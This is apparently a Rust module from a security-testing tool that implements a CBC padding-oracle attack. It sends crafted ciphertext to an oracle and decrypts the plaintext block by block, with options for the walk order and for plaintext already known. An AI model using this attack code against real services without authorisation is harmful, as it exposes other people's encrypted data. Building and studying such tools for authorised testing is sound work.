/// Recover plaintext from CBC ciphertext through a padding oracle.
use crate::{
    probe::{check_block_size, BlockProbe, IntermediateBlock},
    Error, OracleCaller, Predicate, Transport,
};

use std::ops::Range;

use tracing::{info, warn};

#[derive(Debug, Clone)]
pub struct DecryptOptions {
    pub block_size: usize,
    /// Walk the blocks first to last instead of last to first.
    pub start_from_first_block: bool,
    /// Send the untouched ciphertext once and warn if the predicate does not
    /// call its padding valid.
    pub make_initial_request: bool,
    /// Plaintext bytes already recovered, counted from where the walk
    /// starts: a suffix of the plaintext when walking backwards, a prefix
    /// when walking forwards.
    pub already_found: Vec<u8>,
    /// Start crafted blocks from the real previous block rather than zeros.
    pub init_with_original_bytes: bool,
}

impl DecryptOptions {
    pub fn new(block_size: usize) -> Self {
        Self {
            block_size,
            start_from_first_block: false,
            make_initial_request: true,
            already_found: Vec::new(),
            init_with_original_bytes: false,
        }
    }
}

/// Decrypt `ciphertext`, whose first block is the IV (or whatever block the
/// target chains the first real block from). Returns the plaintext of every
/// block after the first, padding included.
pub async fn padding_oracle_decrypt<T: Transport + Sync>(
    oracle: &OracleCaller<T>,
    predicate: &Predicate,
    ciphertext: &[u8],
    options: &DecryptOptions,
) -> Result<Vec<u8>, Error> {
    let block_size = check_block_size(options.block_size)?;
    if ciphertext.len() % block_size != 0 {
        return Err(Error::UnalignedInput {
            len: ciphertext.len(),
            block_size,
        });
    }
    let blocks: Vec<&[u8]> = ciphertext.chunks(block_size).collect();
    if blocks.len() < 2 {
        return Err(Error::TooFewBlocks(blocks.len()));
    }
    let plaintext_len = ciphertext.len() - block_size;
    let known = options.already_found.as_slice();
    if known.len() > plaintext_len {
        return Err(Error::KnownPlaintextTooLong {
            known: known.len(),
            total: plaintext_len,
        });
    }
    let known_range = if options.start_from_first_block {
        0..known.len()
    } else {
        (plaintext_len - known.len())..plaintext_len
    };

    if options.make_initial_request {
        let result = oracle.call_oracle(ciphertext).await?;
        if !predicate.is_hit(&result) {
            warn!(
                "the original ciphertext is not reported as valid (status {}); \
                 check the predicate `{predicate}`",
                result.status
            );
        }
    }

    let block_order: Vec<usize> = if options.start_from_first_block {
        (1..blocks.len()).collect()
    } else {
        (1..blocks.len()).rev().collect()
    };

    let probe = BlockProbe::new(oracle, predicate);
    let mut plaintext = vec![0u8; plaintext_len];
    for block_index in block_order {
        let previous = blocks[block_index - 1];
        let offset = (block_index - 1) * block_size;
        let seeded = seed_block(previous, offset, known, known_range.clone());
        if seeded.is_complete() {
            info!(block = block_index, "block already known");
        }
        let base = if options.init_with_original_bytes {
            previous.to_vec()
        } else {
            vec![0u8; block_size]
        };

        let intermediate = probe
            .solve_block(block_index, &base, blocks[block_index], seeded)
            .await?;
        let block_plaintext = &mut plaintext[offset..offset + block_size];
        for ((out, i), c) in block_plaintext
            .iter_mut()
            .zip(intermediate.bytes())
            .zip(previous)
        {
            *out = i ^ c;
        }
        info!(
            block = block_index,
            "decrypted {:?}",
            String::from_utf8_lossy(block_plaintext)
        );
    }

    Ok(plaintext)
}

// Intermediate bytes implied by plaintext we already have.
fn seed_block(
    previous: &[u8],
    offset: usize,
    known: &[u8],
    known_range: Range<usize>,
) -> IntermediateBlock {
    let mut block = IntermediateBlock::new(previous.len());
    for (position, prev) in previous.iter().enumerate() {
        let absolute = offset + position;
        if known_range.contains(&absolute) {
            block.set(position, known[absolute - known_range.start] ^ prev);
        }
    }
    block
}
